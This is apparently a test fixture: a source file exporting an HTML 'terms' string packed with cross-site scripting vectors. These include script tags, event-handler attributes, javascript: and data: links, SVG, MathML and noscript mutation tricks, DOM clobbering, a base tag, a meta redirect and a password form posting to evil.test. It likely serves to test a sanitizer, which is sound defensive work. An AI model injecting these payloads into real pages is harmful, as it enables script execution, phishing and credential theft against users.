/** Terms that attack whoever renders them as they are. */
export const edgeTerms = `<!doctype html><html><head><title>Terms</title><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css"><style>body{display:none}</style></head>
<body onload="alert('body')">
<h1 onclick="alert(1)" style="position:fixed;inset:0;z-index:9999">Terms &amp; Conditions</h1>
<script>window.hacked = true; document.title = 'hacked'</script>
<p>Plain paragraph with <strong>bold</strong>, <em>italic</em>, <a href="javascript:alert(1)">a script link</a>, <a href="https://example.test/" target="_blank">an outside link</a> and <a href="data:text/html,<script>alert(1)</script>">a data link</a>.</p>
<img src="x" onerror="window.hacked = true"><img src="https://evil.test/pixel.gif" alt="tracking">
<svg><script>window.hacked = true</script><a xlink:href="javascript:alert(1)"><text y="20">svg</text></a><animate onbegin="window.hacked = true" attributeName="x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=true&gt;"></mglyph></table></mtext></math>
<iframe src="javascript:window.hacked = true"></iframe><iframe srcdoc="<script>parent.hacked = true</script>"></iframe>
<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">
<form action="https://evil.test/steal"><input name="password" type="password" autofocus onfocus="window.hacked = true"><button formaction="javascript:alert(1)">Sign in</button></form>
<div id="root">A second root</div><a name="getElementById">Clobbered</a><input name="cookie">
<p dir="rtl">نص من اليمين إلى اليسار</p>
<p>${'Unbroken'.repeat(120)}</p>
<table border="1"><tr><th>Wide</th>${Array.from({ length: 40 }, (_, index) => `<td>Column ${index + 1}</td>`).join('')}</tr></table>
<ul><li>One<ul><li>Two<ul><li>Three</li></ul></li></ul></li></ul>
<p>An unclosed paragraph <b>and bold
<noscript><p title="</noscript><img src=x onerror=window.hacked=true>"></noscript>
</body></html>
`
